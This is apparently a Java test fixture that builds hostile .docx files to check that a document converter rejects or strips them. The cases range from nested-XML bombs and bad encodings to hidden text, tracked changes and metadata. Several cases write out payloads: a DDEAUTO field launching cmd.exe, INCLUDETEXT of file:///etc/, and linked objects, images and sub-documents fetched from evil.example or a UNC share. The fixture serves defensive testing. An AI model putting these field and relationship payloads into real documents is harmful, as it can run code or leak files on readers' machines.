package press.broadside.hostile;

import static press.broadside.hostile.HostileCase.PLANTED;
import static press.broadside.hostile.HostileCase.refused;
import static press.broadside.hostile.HostileCase.saying;

import java.util.List;
import press.broadside.OfficeFiles;

/** Word documents that nest, fetch, embed, run, or keep what was never meant for readers. */
final class DocxHostile {
    private static final String HELLO = "<w:p><w:r><w:t>Hello from the harbour.</w:t></w:r></w:p>";
    private static final String RELATIONSHIPS = "word/_rels/document.xml.rels";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private DocxHostile() {}

    static List<HostileCase> cases() {
        return List.of(
                refused(
                        "docx-4000-nested-tables.docx",
                        of("<w:tbl><w:tr><w:tc>".repeat(4_000) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(4_000)),
                        "max-depth"),
                refused(
                        "docx-deep.docx",
                        of("<w:sdt>".repeat(50_000) + HELLO + "</w:sdt>".repeat(50_000)),
                        "max-depth"),
                refused("docx-unclosed.docx", of("<w:p>".repeat(90)), "word/document.xml"),
                refused(
                        "docx-10000-attributes.docx",
                        of("<w:p " + HtmlStructure.many("a%d=\"\"", 10_000) + "/>" + HELLO),
                        "max-attributes"),
                refused("docx-600000-elements.docx", of("<w:p/>".repeat(600_000) + HELLO), "max-"),
                refused("docx-line-of-5-mb.docx", of(run("x".repeat(5_000_000))), "max-"),
                refused("docx-50000-paragraphs.docx", of(HELLO.repeat(50_000)), "max-"),
                refused("docx-malformed.docx", of("<w:p><w:r></w:p>"), "word/document.xml"),
                refused(
                        "docx-bad-utf8.docx",
                        OfficeFiles.docx()
                                .with(
                                        "word/document.xml",
                                        TextHostile.bytes('<', 'a', '>', 0xC0, 0xAF, '<', '/', 'a', '>'))
                                .bytes(),
                        "word/document.xml"),
                refused("docx-undeclared-entity.docx", of(run("&evil;")), "word/document.xml"),
                refused("docx-surrogate.docx", of(run("&#xD800;")), "word/document.xml"),
                refused("docx-nothing-but-a-footer.docx", of("<w:p/>"), "no text in the body of the document"),
                saying(
                        "docx-comment.docx",
                        OfficeFiles.docx().replacing("word/comments.xml", "<w:t>", "<w:t>" + PLANTED),
                        "removed: 2 comments"),
                saying(
                        "docx-deleted.docx",
                        of(HELLO + "<w:p><w:del w:id=\"1\" w:author=\"" + PLANTED + "\"><w:r><w:delText>" + PLANTED
                                + "</w:delText></w:r></w:del></w:p>"),
                        "removed: 1 tracked change (it counts as accepted)"),
                saying(
                        "docx-inserted-by.docx",
                        of(
                                "<w:p><w:ins w:id=\"1\" w:author=\"" + PLANTED
                                        + "\" w:date=\"2026-01-01T00:00:00Z\"><w:r><w:t>Inserted text.</w:t></w:r></w:ins></w:p>"),
                        "removed: 1 tracked change (it counts as accepted)"),
                saying(
                        "docx-moved-from.docx",
                        of(HELLO + "<w:p><w:moveFrom w:id=\"1\" w:author=\"x\"><w:r><w:t>" + PLANTED
                                + "</w:t></w:r></w:moveFrom></w:p>"),
                        "removed: 1 tracked change (it counts as accepted)"),
                saying(
                        "docx-hidden.docx",
                        of(HELLO + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>" + PLANTED + "</w:t></w:r></w:p>"),
                        "removed: 1 piece of hidden text"),
                saying(
                        "docx-author.docx",
                        OfficeFiles.docx()
                                .replacing(
                                        "docProps/core.xml",
                                        "</cp:coreProperties>",
                                        "<cp:category>" + PLANTED + "</cp:category></cp:coreProperties>"),
                        "removed: 3 authors' or editors' names"),
                saying(
                        "docx-custom-xml.docx",
                        OfficeFiles.docxOf(HELLO).with("customXml/item1.xml", "<x>" + PLANTED + "</x>")),
                saying("docx-thumbnail.docx", OfficeFiles.docxOf(HELLO).with("docProps/thumbnail.jpeg", PLANTED)),
                saying(
                        "docx-field-dde.docx",
                        of(HELLO + field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k " + PLANTED + "\"")),
                        FETCHES),
                saying(
                        "docx-field-dde-split.docx",
                        of(
                                HELLO
                                        + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E x "
                                        + PLANTED
                                        + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>kept</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
                        FETCHES),
                saying(
                        "docx-field-includetext.docx",
                        of(HELLO + field("INCLUDETEXT \"file:///etc/" + PLANTED + "\"")),
                        FETCHES),
                saying(
                        "docx-field-includepicture.docx",
                        of(HELLO + field("INCLUDEPICTURE \"http://evil.example/" + PLANTED + ".png\" \\d")),
                        FETCHES),
                saying(
                        "docx-field-link.docx",
                        of(HELLO + field("LINK Excel.Sheet.8 \"" + PLANTED + ".xls\"")),
                        FETCHES),
                saying(
                        "docx-field-hyperlink.docx",
                        of(HELLO + field("HYPERLINK \"javascript:" + PLANTED + "\"")),
                        "removed: 1 link that is not http, https, mailto or tel (its text was kept)"),
                saying(
                        "docx-field-author.docx",
                        of(HELLO + field("AUTHOR \\* MERGEFORMAT " + PLANTED)),
                        "removed: 1 field that shows an author or a path"),
                saying(
                        "docx-link-javascript.docx",
                        linked(
                                "hyperlink",
                                "javascript:" + PLANTED,
                                "<w:p><w:hyperlink r:id=\"evil\"><w:r><w:t>Linked text.</w:t></w:r></w:hyperlink></w:p>"),
                        "removed: 1 link that is not http, https, mailto or tel (its text was kept)"),
                saying(
                        "docx-link-file.docx",
                        linked(
                                "hyperlink",
                                "file:///etc/" + PLANTED,
                                "<w:p><w:hyperlink r:id=\"evil\"><w:r><w:t>Linked text.</w:t></w:r></w:hyperlink></w:p>"),
                        "removed: 1 link that is not http, https, mailto or tel (its text was kept)"),
                saying(
                        "docx-link-share.docx",
                        linked(
                                "hyperlink",
                                "\\\\\\\\evil.example\\\\" + PLANTED,
                                "<w:p><w:hyperlink r:id=\"evil\"><w:r><w:t>Linked text.</w:t></w:r></w:hyperlink></w:p>"),
                        "removed: 1 link that is not http, https, mailto or tel (its text was kept)"),
                saying(
                        "docx-alt-chunk.docx",
                        linked("aFChunk", "https://evil.example/" + PLANTED, HELLO + "<w:altChunk r:id=\"evil\"/>"),
                        "removed: 1 inserted or linked document"),
                saying(
                        "docx-sub-document.docx",
                        linked("subDocument", "file:///etc/" + PLANTED, HELLO + "<w:subDoc r:id=\"evil\"/>"),
                        "removed: 1 inserted or linked document"),
                saying(
                        "docx-object.docx",
                        linked(
                                "oleObject",
                                "https://evil.example/" + PLANTED,
                                HELLO
                                        + "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" r:id=\"evil\"/></w:object></w:r></w:p>"),
                        "removed: 1 embedded object"),
                saying(
                        "docx-picture-linked.docx",
                        linked(
                                "image",
                                "https://evil.example/" + PLANTED + ".png",
                                HELLO
                                        + "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata r:id=\"evil\"/></v:shape></w:pict></w:r></w:p>"),
                        "removed: 1 picture that is only linked"),
                saying("docx-template-linked.docx", OfficeFiles.docxOf(HELLO), "removed: 1 link to a template"),
                saying(
                        "docx-markup-in-text.docx",
                        of(run("&lt;script&gt;alert(1)&lt;/script&gt; {{x}} ${y} {1}{/1} stays"))),
                saying("docx-bidi.docx", of(run("Overrides \u202Eexe.txt\u202C stay"))),
                saying("docx-okapi-marks.docx", of(run("Marks \uE101\uE110 and [#$dp1] stay"))));
    }

    private static final String FETCHES = "removed: 1 field that fetches or runs something (its text was kept)";

    private static OfficeFiles of(String body) {
        return OfficeFiles.docxOf(body);
    }

    private static String run(String text) {
        return "<w:p><w:r><w:t xml:space=\"preserve\">" + text + "</w:t></w:r></w:p>";
    }

    private static String field(String instruction) {
        return "<w:p><w:fldSimple w:instr=\" " + instruction.replace("\"", "&quot;")
                + " \"><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>";
    }

    private static OfficeFiles linked(String type, String target, String body) {
        return of(body).replacing(
                        RELATIONSHIPS,
                        "</Relationships>",
                        "<Relationship Id=\"evil\" Type=\"" + OFFICE + type + "\" Target=\"" + target
                                + "\" TargetMode=\"External\"/></Relationships>");
    }
}
